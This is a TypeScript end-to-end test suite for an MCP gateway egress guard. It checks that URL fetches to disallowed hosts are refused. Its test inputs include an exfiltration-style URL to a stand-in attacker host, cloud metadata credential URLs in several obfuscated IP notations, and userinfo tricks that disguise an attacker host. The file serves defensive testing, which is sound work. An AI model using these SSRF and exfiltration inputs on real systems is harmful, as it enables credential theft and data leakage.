import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { startGateway, type TestGateway } from "../support.js";
import { createEgressGuard, egressRulesFromServers } from "../../src/guards/egress/index.js";
import { GatewayErrors } from "../../src/errors.js";
import { silentLogger } from "../../src/log.js";

const WEB = resolve("test/fixtures/taint-web.mjs");

let dir: string;
let fetched: string;
let g: TestGateway;
let client: Client;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), "bastion-egress-e2e-"));
  fetched = join(dir, "fetched.log");
  await writeFile(fetched, "");
  const rules = egressRulesFromServers({
    web: { egress: { allow: ["docs.example.com", "*.cdn.example.net"] } },
  });
  g = await startGateway(
    {
      servers: {
        web: { command: process.execPath, args: [WEB, fetched] },
        open: { command: process.execPath, args: [WEB, fetched] },
      },
    },
    [createEgressGuard({ rules, log: silentLogger() })],
  );
  client = new Client({ name: "egress", version: "1" });
  await client.connect(new StreamableHTTPClientTransport(new URL(g.url)));
  await client.listTools();
});

after(async () => {
  await client.close();
  await g.close();
  await rm(dir, { recursive: true, force: true });
});

interface WireError {
  code?: number;
  message: string;
  data?: { code?: string; guard?: string };
}

async function refusal(url: string): Promise<WireError> {
  const outcome = await client.callTool({ name: "web__fetch_url", arguments: { url } }).then(
    (result) => ({ result }),
    (error: WireError) => ({ error }),
  );
  assert.ok("error" in outcome, `expected ${url} to be refused, got ${JSON.stringify(outcome)}`);
  assert.equal(outcome.error.code, GatewayErrors.egress_denied.code, url);
  assert.equal(outcome.error.data?.code, "egress_denied", url);
  return outcome.error;
}

async function seenUpstream(): Promise<string[]> {
  return (await readFile(fetched, "utf8")).split("\n").filter(Boolean);
}

test("a host outside the allow list is refused before the upstream sees the URL, and the message names only the host", async () => {
  const error = await refusal("https://collector.attacker.example/c?d=alice%20182000");
  assert.match(error.message, /"collector\.attacker\.example" is not allowed/);
  assert.doesNotMatch(error.message, /182000/);
  assert.deepEqual(await seenUpstream(), []);
});

test("the metadata address is refused in every notation before the upstream sees it", async () => {
  for (const url of [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
  ]) {
    const error = await refusal(url);
    assert.match(error.message, /"[^"]+" is refused: it is a cloud metadata address/, url);
  }
  assert.deepEqual(await seenUpstream(), []);
});

test("a userinfo trick that dresses another host as an allowed one is refused", async () => {
  const error = await refusal("https://docs.example.com@attacker.example/steal");
  assert.match(error.message, /"attacker\.example"/);
  await refusal("https://docs.example.com\\@169.254.169.254/");
  assert.deepEqual(await seenUpstream(), []);
});

test("an allowed host passes and reaches the upstream unchanged, and a server without rules is not checked", async () => {
  const allowed = "https://docs.example.com/guide?lang=en";
  const result = (await client.callTool({ name: "web__fetch_url", arguments: { url: allowed } })) as {
    content: Array<{ text: string }>;
  };
  assert.match(result.content[0]!.text, /release notes/);
  await client.callTool({ name: "web__fetch_url", arguments: { url: "https://img.cdn.example.net/a.png" } });
  await client.callTool({ name: "open__fetch_url", arguments: { url: "https://anywhere.example.org/" } });
  assert.deepEqual(await seenUpstream(), [
    allowed,
    "https://img.cdn.example.net/a.png",
    "https://anywhere.example.org/",
  ]);
});
